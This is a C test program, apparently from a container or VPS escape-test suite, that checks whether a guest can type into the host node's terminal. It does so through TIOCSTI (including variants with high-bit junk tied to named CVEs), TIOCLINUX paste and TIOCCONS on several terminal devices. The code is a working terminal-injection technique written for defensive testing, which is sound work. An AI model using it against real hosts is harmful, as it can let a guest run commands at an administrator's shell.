/* SPDX-License-Identifier: GPL-2.0-or-later */
/*
 * Class: typing at the node's terminal: TIOCSTI puts characters into the input of the terminal that
 * the administrator called us from (CVE-2016-9016 and many), TIOCLINUX pastes into a console; the
 * argument is tried with rubbish in its upper half too (CVE-2019-10063).
 * Wall: no terminal of the node is ever handed in, the streams are a pty of the VPS's own; and the
 * system call filter refuses both.
 * Usage: tty WORD, which must not appear at the node's prompt
 */
#include "escape.h"

#include <linux/tiocl.h>
#include <sys/ioctl.h>

static void type_at(int fd, const char *where, const char *word)
{
	static const unsigned long cmds[] = { TIOCSTI, TIOCSTI | 1UL << 32, TIOCSTI | 1UL << 63 };
	char paste[2] = { TIOCL_PASTESEL, 0 };

	for (size_t i = 0; i < sizeof(cmds) / sizeof(*cmds); i++) {
		bool out = false;

		for (const char *c = word; *c; c++)
			out = syscall(SYS_ioctl, fd, cmds[i], c) == 0;
		attempt(out, "TIOCSTI at %s", where);
	}
	attempt(syscall(SYS_ioctl, fd, TIOCLINUX, paste) == 0, "TIOCLINUX at %s", where);
	attempt(ioctl(fd, TIOCCONS) == 0, "TIOCCONS at %s", where);
}

int main(int argc, char **argv)
{
	static const char *const names[] = { "/dev/tty", "/dev/console", "/dev/tty0", "/dev/tty1",
					     "/dev/pts/0", "/dev/pts/1" };

	if (argc < 2)
		return 2;
	for (int fd = 0; fd < 3; fd++) {
		char where[16];

		snprintf(where, sizeof(where), "stream %d", fd);
		ioctl(fd, TIOCSCTTY, 1);
		type_at(fd, where, argv[1]);
	}
	for (size_t i = 0; i < sizeof(names) / sizeof(*names); i++) {
		int fd = open(names[i], O_RDWR);

		if (fd >= 0)
			type_at(fd, names[i], argv[1]);
	}
	return verdict();
}
